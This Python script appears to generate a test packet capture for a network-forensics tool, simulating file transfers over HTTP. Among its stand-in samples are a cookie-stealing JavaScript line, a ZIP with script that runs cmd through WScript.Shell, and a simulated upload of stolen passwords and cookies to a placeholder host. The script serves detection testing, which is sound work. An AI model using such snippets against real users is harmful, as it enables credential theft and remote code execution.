#!/usr/bin/env python3
"""Writes http-files.pcapng: files crossing plain HTTP, for sharkfin's http.file_data.sha256, .md5
and .magic fields and the file indicators of `sharkfin iocs`. Each exchange is its own TCP
connection (client ports from 49200 on):

- 10.20.0.15 fetches http://update.cdn-files.test/svc/update.exe: a Windows executable (an MZ
  header, a PE header for x86-64, then stand-in code) of 6,000 bytes in several segments, declared
  application/octet-stream;
- 10.20.0.15 fetches http://static-img.test/images/logo.jpg: another executable, declared
  image/jpeg and sent chunked (a disguised download);
- 10.20.0.15 fetches http://static-img.test/app.js: JavaScript, gzip content coding;
- 10.20.0.23 fetches http://update.cdn-files.test/svc/update.exe too: the same executable again;
- 10.20.0.23 fetches http://198.51.100.20/x86_64/agent: an ELF executable, declared
  application/octet-stream, without a Host name (an address in the URI);
- 10.20.0.23 fetches http://docs.example.test/invoice.zip: a ZIP archive (Python's zipfile, fixed
  dates);
- 10.20.0.15 posts a ZIP archive to http://collect.example.test/upload.php as
  application/octet-stream (an upload);
- 10.20.0.15 fetches http://static-img.test/favicon.ico (an icon, nothing the magic names) and a
  204 with no body;
- names Export Objects must make safe: a URI ending in a slash, one with characters Windows forbids
  in file names, one longer than 255 bytes, and a response on a connection whose request is not in
  the capture (declared Text/HTML with a charset).

Deterministic: rerunning gives the same bytes.
"""
import gzip
import io
import struct
import sys
import zipfile

from wirebytes import TcpConnection, noise, write_pcapng

MSS = 1400


def pe(seed, size):
    """A Windows executable's first bytes (DOS header with e_lfanew, DOS stub, PE signature and
    a COFF header for x86-64) followed by stand-in code."""
    dos = bytearray(b'MZ' + b'\x90\x00' + b'\x00' * 60)
    struct.pack_into('<I', dos, 0x3c, 0x80)
    stub = b'\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$'
    head = bytes(dos) + stub
    head += b'\x00' * (0x80 - len(head))
    coff = b'PE\x00\x00' + struct.pack('<HHIIIHH', 0x8664, 3, 0x5f5e1000, 0, 0, 0xf0, 0x22)
    body = head + coff
    return body + noise(size - len(body), seed)


def elf(seed, size):
    ident = b'\x7fELF\x02\x01\x01' + b'\x00' * 9
    hdr = ident + struct.pack('<HHIQQQIHHHHHH', 2, 0x3e, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return hdr + noise(size - len(hdr), seed)


def zipped(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            z.writestr(zipfile.ZipInfo(name, date_time=(2026, 11, 30, 8, 0, 0)), data)
    return out.getvalue()


def send_all(conn, from_client, data):
    """Data in MSS-sized segments, each acknowledged by the other side."""
    for i in range(0, len(data), MSS):
        conn.send(from_client, data[i:i + MSS])
        conn.ack(not from_client)


def exchange(frames, client, cport, server, request, response):
    c = TcpConnection(frames, client, cport, server, 80).open()
    send_all(c, True, request)
    send_all(c, False, response)
    c.close()


def get(host, path, agent='Mozilla/5.0 (Windows NT 10.0; Win64; x64)'):
    return ('GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n' % (path, host, agent)).encode()


def response(ctype, body, extra='', status='200 OK'):
    head = 'HTTP/1.1 %s\r\nServer: nginx\r\n' % status
    if ctype:
        head += 'Content-Type: %s\r\n' % ctype
    return (head + extra + 'Content-Length: %d\r\n\r\n' % len(body)).encode() + body


def chunked(ctype, body, size=1000):
    out = ('HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: %s\r\nTransfer-Encoding: chunked\r\n\r\n'
           % ctype).encode()
    for i in range(0, len(body), size):
        part = body[i:i + size]
        out += b'%x\r\n' % len(part) + part + b'\r\n'
    return out + b'0\r\n\r\n'


def main(path):
    frames = []
    update = pe(11, 6000)
    logo = pe(23, 4200)
    script = b'(function(){var q=document.cookie;new Image().src="/p?"+q;})();\n' * 40
    agent = elf(37, 3000)
    invoice = zipped([('invoice.pdf.js', b'var s=new ActiveXObject("WScript.Shell");s.Run("cmd");\n' * 20)])
    loot = zipped([('passwords.txt', b'admin:hunter2\n' * 50), ('cookies.sqlite', noise(800, 5))])
    icon = b'\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00\x20\x00' + noise(300, 9)

    exchange(frames, '10.20.0.15', 49200, '203.0.113.10', get('update.cdn-files.test', '/svc/update.exe'),
             response('application/octet-stream', update))
    exchange(frames, '10.20.0.15', 49201, '198.51.100.20', get('static-img.test', '/images/logo.jpg'),
             chunked('image/jpeg', logo))
    exchange(frames, '10.20.0.15', 49202, '198.51.100.20', get('static-img.test', '/app.js'),
             response('application/javascript', gzip.compress(script, mtime=0), 'Content-Encoding: gzip\r\n'))
    exchange(frames, '10.20.0.23', 49203, '203.0.113.10', get('update.cdn-files.test', '/svc/update.exe',
                                                              'Microsoft BITS/7.8'),
             response('application/octet-stream', update))
    exchange(frames, '10.20.0.23', 49204, '198.51.100.20', get('198.51.100.20', '/x86_64/agent', 'curl/7.88.1'),
             response('application/octet-stream', agent))
    exchange(frames, '10.20.0.23', 49205, '192.0.2.44', get('docs.example.test', '/invoice.zip'),
             response('application/zip', invoice))
    exchange(frames, '10.20.0.15', 49206, '192.0.2.45',
             ('POST /upload.php HTTP/1.1\r\nHost: collect.example.test\r\nUser-Agent: python-requests/2.31.0\r\n'
              'Content-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n' % len(loot)).encode() + loot,
             response('text/plain', b'ok'))
    exchange(frames, '10.20.0.15', 49207, '198.51.100.20', get('static-img.test', '/favicon.ico'),
             response('image/x-icon', icon))
    exchange(frames, '10.20.0.15', 49208, '198.51.100.20', get('static-img.test', '/ping'),
             b'HTTP/1.1 204 No Content\r\nServer: nginx\r\n\r\n')
    # names Export Objects must make safe or number: a trailing slash, characters Windows forbids,
    # a name longer than 255 bytes, and a response whose request is not in the capture
    exchange(frames, '10.20.0.15', 49209, '198.51.100.20', get('static-img.test', '/dir/sub/'),
             response('text/html', b'<html>index of /dir/sub/</html>'))
    exchange(frames, '10.20.0.15', 49210, '198.51.100.20', get('static-img.test', '/a<b>:c|d*e"f\\g.txt'),
             response('text/plain', b'odd name'))
    exchange(frames, '10.20.0.15', 49211, '198.51.100.20', get('static-img.test', '/' + 'x' * 300 + '.bin'),
             response('application/octet-stream', noise(64, 3)))
    c = TcpConnection(frames, '10.20.0.15', 49212, '198.51.100.20', 80).open()
    send_all(c, False, response('Text/HTML; charset=UTF-8', b'<p>mid-stream</p>'))
    c.close()
    write_pcapng(path, frames, 1796025600, 25000)


if __name__ == '__main__':
    main(sys.argv[1] if len(sys.argv) > 1 else 'http-files.pcapng')
